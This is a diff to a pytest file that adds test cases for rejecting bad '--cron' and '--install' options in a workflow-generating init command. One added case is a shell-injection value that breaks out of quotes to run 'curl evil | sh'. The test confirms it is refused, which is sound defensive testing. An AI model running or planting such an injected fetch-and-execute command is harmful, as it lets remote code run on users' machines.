@@ -103,10 +103,22 @@ def test_a_bad_option_is_a_config_error_before_anything_is_written(tmp_path: Pat
     assert not (tmp_path / "news").exists()
 
 
-@pytest.mark.parametrize("cron", ["every hour", "0 * * *", "0 * * * * *"])
-def test_a_schedule_needs_five_cron_fields(tmp_path: Path, cron: str) -> None:
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--cron", "every hour"),
+        ("--cron", "0 * * *"),
+        ("--cron", "0 * * * * *"),
+        ("--install", 'digest"; curl evil | sh; echo "'),
+        ("--install", "digest==$VERSION"),
+        ("--install", " "),
+    ],
+)
+def test_options_that_would_break_the_workflow_are_refused(
+    tmp_path: Path, option: str, value: str
+) -> None:
     with pytest.raises(SystemExit) as stopped:
-        _init(str(tmp_path), "--cron", cron)
+        _init(str(tmp_path), option, value)
     assert stopped.value.code == 2
     assert list(tmp_path.iterdir()) == []
 
